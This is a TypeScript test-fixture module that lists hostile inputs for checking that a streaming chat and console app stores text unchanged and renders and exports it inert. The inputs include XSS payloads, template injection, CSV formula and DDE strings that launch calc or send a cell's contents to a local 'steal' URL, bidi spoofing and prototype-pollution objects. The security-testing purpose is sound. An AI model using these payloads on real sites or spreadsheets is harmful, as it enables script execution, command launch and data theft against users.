/**
 * Hostile text: what viewers, a compromised platform bridge or a careless paste can put into a chat line, a
 * name, an incident title or a post. Every item tries to become something other than text somewhere Onair
 * shows or exports it: a script in the console or a report, a formula in a spreadsheet, a link in Markdown,
 * a broken feed, a flipped line, a changed byte in the database. `window.__pwned` is what a script that ran
 * would set.
 */
import { LIMITS } from '../../shared/schemas';

export const PWNED = '__pwned';
const pwn = `window.${PWNED}=1`;

/** Text that must come out as the same text everywhere: stored byte for byte, shown and exported inert. */
export const TEXTS: readonly { name: string; text: string }[] = [
  { name: 'script tag', text: `<script>${pwn}</script>` },
  { name: 'img onerror', text: `<img src=x onerror="${pwn}">` },
  { name: 'svg onload', text: `<svg/onload=${pwn}>` },
  { name: 'iframe srcdoc', text: `<iframe srcdoc="<script>parent.${pwn}</script>"></iframe>` },
  { name: 'attribute breakout', text: `"'><img src=x onerror=${pwn}>` },
  { name: 'javascript: link in Markdown', text: `[click me](javascript:${pwn}) ![x](javascript:${pwn})` },
  { name: 'javascript: link in HTML', text: `<a href="javascript:${pwn}">click me</a>` },
  { name: 'bare javascript: URL', text: `javascript:${pwn}` },
  { name: 'CDATA and comment breakers', text: `]]><script>${pwn}</script><![CDATA[ --><script>${pwn}</script><!--` },
  { name: 'entities', text: '&lt;script&gt; &amp;amp; &#x3C;b&#x3E; &#0; &bogus;' },
  { name: 'template syntax', text: `{{constructor.constructor("${pwn}")()}} \${${pwn}} <%= ${pwn} %>` },
  { name: 'CSV formula HYPERLINK', text: '=HYPERLINK("http://127.0.0.1:9/steal?d="&A1,"click me")' },
  { name: 'CSV formula +', text: "+1+cmd|' /C calc'!A0" },
  { name: 'CSV formula -', text: "-2+3+cmd|' /C calc'!A0" },
  { name: 'CSV formula @', text: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { name: 'CSV formula after a tab', text: '\t=1+1' },
  { name: 'CSV formula after a CR', text: '\r=1+1' },
  { name: 'CSV quotes and separators', text: 'a,"b",c;\r\nd\n=e' },
  {
    name: 'Markdown blocks and tables',
    text: '# heading\n| a | b |\n|---|---|\n> quote\n- item\n1. first **bold** _it_ `code` ~~s~~',
  },
  {
    name: 'control characters',
    text: 'nul\u0000 soh\u0001 bel\u0007 bs\u0008 vt\u000b ff\u000c esc\u001b[31mred\u001b[0m us\u001f del\u007f nel\u0085',
  },
  { name: 'bidi overrides', text: 'invoice\u202Efdp.exe \u202Dltr\u202C \u2066isolate\u2069 \u200Frlm \u061Calm' },
  { name: 'zero-width characters', text: 'ad\u200Bmin \u200C\u200D\u2060\uFEFF joined' },
  { name: 'emoji ZWJ sequences', text: '👩‍👩‍👧‍👦 🏳️‍🌈 👨🏽‍💻 🧑‍🤝‍🧑 ❤️‍🔥 🇮🇹' },
  { name: 'combining marks', text: 'Z̴̡̧̛̖̗̘̙̜̝̞̟̠̤̥̦̩̪̫̬̭̮̯̰̱̲̳̹̺̻̼͇͈͉͍͎a̶̢l̷̨g̸̛o̵' },
  { name: 'non-characters', text: 'fffe\uFFFE ffff\uFFFF 1fffe\u{1FFFE}' },
  {
    name: 'giant text at the schema limit',
    text: `<b onmouseover=${pwn}>=1+1</b> | **x** `.repeat(100).slice(0, LIMITS.chatTextMax),
  },
];

/** Half an emoji: UTF-8 (SQLite's text) cannot hold it, so it can only be refused or replaced, never kept. */
export const LONE_SURROGATES: readonly { name: string; text: string }[] = [
  { name: 'lone high surrogate', text: 'half \uD83D an emoji' },
  { name: 'lone low surrogate', text: '\uDE00 the other half' },
  { name: 'reversed pair', text: 'swapped \uDE00\uD83D pair' },
];

/** Viewer names that try the same. */
export const AUTHORS: readonly string[] = [
  `<img src=x onerror=${pwn}>`,
  '=HYPERLINK("http://127.0.0.1:9/x","me")',
  '\u202Enimda',
  'ad\u200Bmin',
  '👩‍👩‍👧‍👦',
  `javascript:${pwn}`,
  '|pipe|',
];

const nested = (depth: number): unknown => {
  let v: unknown = 'bottom';
  for (let i = 0; i < depth; i++) v = { a: v };
  return v;
};

/** Payloads the source schema must refuse, each quarantined with a reason naming the field. */
export const REFUSED: readonly { name: string; field: string; payload: (id: string, ts: number) => unknown }[] = [
  {
    name: 'text one past the schema limit',
    field: 'text',
    payload: (id, ts) => ({ id, author: 'viewer', text: 'x'.repeat(LIMITS.chatTextMax + 1), ts }),
  },
  {
    name: 'deeply nested object as the text',
    field: 'text',
    payload: (id, ts) => ({ id, author: 'viewer', text: nested(1000), ts }),
  },
  {
    name: 'deeply nested array as the author',
    field: 'author',
    payload: (id, ts) => ({ id, author: [[[[[[[[[[['deep']]]]]]]]]]], text: 'hi', ts }),
  },
  {
    name: 'prototype keys',
    field: 'text',
    payload: (id, ts) => JSON.parse(`{"id":"${id}","author":"v","ts":${ts},"__proto__":{"text":"polluted"}}`),
  },
];

/** Operator input of the same kind: the name at the console, an incident title, a post. */
export const OPERATOR = '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"<b>me</b>")';
export const EVENT_NAME = `<img src=x onerror=${pwn}>Launch "webinar" & =cmd|' /C calc'!A0 \u202Eevil`;
